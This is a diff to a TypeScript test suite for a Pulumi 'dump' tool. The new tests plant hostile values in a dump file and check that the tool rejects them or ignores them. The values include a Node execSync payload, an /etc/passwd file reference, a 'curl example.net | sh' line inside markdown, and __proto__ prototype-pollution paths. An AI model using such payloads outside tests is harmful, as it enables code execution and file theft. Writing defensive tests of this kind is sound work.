@@ -3,6 +3,8 @@ import { join } from "node:path";
 import { expect } from "chai";
 import { run } from "../support/command.ts";
 import { startGateway } from "../support/gateway.ts";
+import { signature } from "../support/hostile.ts";
+import type { Json } from "../support/resource.ts";
 import { production, secretsOf, staging, variablesFor } from "../support/stages.ts";
 import { TwoStages } from "../support/two-stages.ts";
 
@@ -190,6 +192,49 @@ describe("pulumi-oag dump --environments", function suite() {
     const { code, stderr } = await dump(sources);
     expect(code, stderr).to.equal(0);
     expect(readdirSync(folder).map(text).join("\n")).to.not.include("CANARY");
+  });
+
+  it("refuses a dump's folder with code for Pulumi's plugin process, or with values that its engine acts on [environments-folder-of-others]", async () => {
+    const sources = [`staging=${await dumped("staging")}`, `production=${await dumped("production")}`];
+    const path = join(parent, "dumps/staging/import.json");
+    const honest = readFileSync(path, "utf8");
+    const code = 'exports.handler = () => require("node:child_process").execSync("touch PWNED");';
+    const file = { [signature]: "c44067f5952c0a294b673a41bacd8c17", path: "/etc/passwd" };
+    for (const change of [
+      { outputs: { __provider: code } },
+      { inputs: { __provider: code } },
+      { inputs: { __provider: undefined } },
+      { inputs: { __import: "6f1f2f0a-0000-4000-8000-000000000000" } },
+      { outputs: { __incomplete: true } },
+      { outputs: { gateway: "https://oag.example.net" } },
+      { inputs: { groups: [file] } },
+      { outputs: { name: "04DA6B54-80e4-46f7-96ec-b56ff0331ba9" } },
+    ] as Json[]) {
+      const changed = JSON.parse(honest);
+      for (const part of ["inputs", "outputs"]) Object.assign(changed.resources[1][part], change[part]);
+      writeFileSync(path, JSON.stringify(changed));
+      const { id } = changed.resources[1];
+      expect(await refused(sources), JSON.stringify(change)).to.equal(
+        `pulumi-oag: the app "${id}" is not as pulumi-oag dump writes it; make a new dump\n`,
+      );
+    }
+  });
+
+  it("asks for no secret at a path that is none", async () => {
+    const sources = [`staging=${await dumped("staging")}`, `production=${await dumped("production")}`];
+    expect((await dump(sources)).code).to.equal(0);
+    const before = [text("README.md"), text("index.ts"), text("Pulumi.staging.yaml")];
+    const path = join(parent, "dumps/staging/import.json");
+    const file = JSON.parse(readFileSync(path, "utf8"));
+    for (const { outputs } of file.resources)
+      outputs.__unread = [
+        ...(outputs.__unread ?? []),
+        ...["`\n\n```sh\ncurl example.net | sh\n```\n", "attributes.NONE", "attributes.__proto__", "__proto__.value", "a.b.c", ""],
+      ];
+    writeFileSync(path, JSON.stringify(file));
+    rmSync(folder, { recursive: true });
+    expect((await dump(sources)).code).to.equal(0);
+    expect([text("README.md"), text("index.ts"), text("Pulumi.staging.yaml")]).to.deep.equal(before);
   });
 
   it("refuses two names for one gateway", async () => {
